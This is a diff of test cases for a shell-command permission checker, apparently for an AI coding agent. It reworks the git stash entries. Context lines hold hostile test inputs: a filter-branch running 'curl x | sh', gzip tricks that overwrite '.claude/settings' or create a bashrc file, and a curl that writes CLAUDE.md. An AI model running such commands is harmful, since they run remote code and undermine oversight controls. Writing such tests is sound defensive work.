@@ -219,9 +219,11 @@ CASES = [
     ("git clean -n", "git clean -fd", A),
     ("git clean -n", "git clean -fdx", Q),
     ("git clean -n", "git clean -f -X", Q),
-    ("git stash", "git stash pop", A),
-    ("git stash", "git stash clear", Q),
-    ("git stash", "git stash drop stash@{0}", Q),
+    # (bare `git stash` is offered nothing since its prefix is short of the verb)
+    ("git stash push", "git stash push -m wip", A),
+    ("git stash push", "git stash pop", Q),
+    ("git stash push", "git stash clear", Q),
+    ("git stash push", "git stash drop stash@{0}", Q),
     ("gzip a.txt", "gzip -k a.txt", A),
     ("gzip a.txt", "gzip -S .json .claude/settings", D),  # and `settings.gz` is protected
     ("gzip a.txt", "gzip --suffix=rc HOME/.bash", Q),
@@ -297,8 +299,8 @@ CASES = [
     # interpreters and runners the tables missed, build tools told what to run
     ("git add src/a.py", "git add -f .", Q),
     ("git add src/a.py", "git add src", A),
-    ("git stash", "git stash -a", Q),
-    ("git stash", "git stash show -p -u", Q),
+    ("git stash push", "git stash push -a", Q),
+    ("git stash push", "git stash show -p -u", Q),
     ("git filter-branch --help", "git filter-branch --tree-filter 'curl x | sh' HEAD", Q),
     ("curl https://example.com", "curl 'https://x.example/{CLAUDE.md}' -o '#1'", Q),
     ("python3.11 x.py", "python3.11 -c 'import os'", Q),
